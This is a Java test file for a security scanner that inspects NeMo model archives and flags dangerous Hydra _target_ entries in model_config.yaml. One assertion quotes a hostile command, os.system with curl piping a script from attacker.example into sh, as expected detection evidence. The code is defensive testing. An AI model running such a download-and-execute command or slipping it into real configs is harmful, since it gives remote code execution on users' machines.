package io.modelvet.formats.nemo;

import static org.assertj.core.api.Assertions.assertThat;

import io.modelvet.report.FileResult;
import io.modelvet.report.Severity;
import io.modelvet.report.Verdict;
import io.modelvet.testutil.HostileScan;
import io.modelvet.testutil.Scans;
import java.nio.charset.StandardCharsets;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

/** .nemo archives: the tar walk dispatches model_config.yaml to the Hydra config scanner. */
class NemoArchiveTest {
  private static List<FileResult> scan(String name) {
    return Scans.all(Scans.fixture("formats/nemo/" + name));
  }

  private static FileResult config(List<FileResult> all) {
    return all.stream().filter(r -> r.path().endsWith("model_config.yaml")).findFirst().orElseThrow();
  }

  @Test
  void benignAsrArchiveIsCleanAndRecognised() {
    List<FileResult> all = scan("benign.nemo");
    assertThat(all.get(0).format()).isEqualTo("nemo");
    assertThat(config(all).format()).isEqualTo("nemo-config");
    assertThat(all).allSatisfy(r -> assertThat(r.verdict()).as(r.path() + " " + r.findings()).isEqualTo(Verdict.CLEAN));
  }

  @Test
  void dangerousAndForeignTargetsInAGzippedArchiveAreFlagged() {
    List<FileResult> all = scan("malicious.nemo");
    assertThat(all.get(0).format()).isEqualTo("nemo");
    FileResult c = config(all);
    assertThat(c.findings()).anyMatch(f -> f.ruleId().equals("nemo.hydra-target-dangerous") && f.severity() == Severity.CRITICAL
        && f.evidence().equals("os.system('curl -s http://attacker.example/x | sh')"));
    assertThat(c.findings()).anyMatch(f -> f.ruleId().equals("nemo.hydra-target-untrusted") && f.severity() == Severity.HIGH
        && f.evidence().startsWith("evil_plugins.samplers.Sampler(") && f.message().contains("_partial_"));
  }

  @Test
  void theTopLevelModelClassAndLongestPrefixesDecide() {
    String yaml = "target: mycorp.models.Net\nloader:\n  _target_: torch.load\n  f: /tmp/x.pt\nopt:\n  _target_: torch.optim.Adam\n";
    FileResult r = Scans.bytes("model_config.yaml", yaml.getBytes(StandardCharsets.UTF_8));
    assertThat(r.findings()).anyMatch(f -> f.ruleId().equals("nemo.hydra-target-untrusted") && f.evidence().startsWith("mycorp.models.Net("));
    assertThat(r.findings()).anyMatch(f -> f.ruleId().equals("nemo.hydra-target-dangerous") && f.evidence().equals("torch.load(f='/tmp/x.pt')"));
    assertThat(r.findings()).noneMatch(f -> f.evidence().startsWith("torch.optim"));
  }

  @Property(tries = 300)
  void hostileConfigsStayBounded(@ForAll("configs") String yaml) {
    HostileScan.check("model_config.yaml", yaml.getBytes(StandardCharsets.UTF_8));
  }

  @Provide
  Arbitrary<String> configs() {
    Arbitrary<String> line = Arbitraries.oneOf(
        Arbitraries.of("_target_: os.system", "  _target_: x", "- _target_: [1, 2]", "a: &a {_target_: b}", "b: [*a, *a, *a]", "_args_: [1, {x: 2}]", "  _partial_: yes", "target: 3", "!!binary x", "- - - -", "? complex key"),
        Arbitraries.strings().ofMaxLength(30));
    return line.list().ofMaxSize(30).map(l -> "_target_: nemo.X\n" + String.join("\n", l));
  }
}
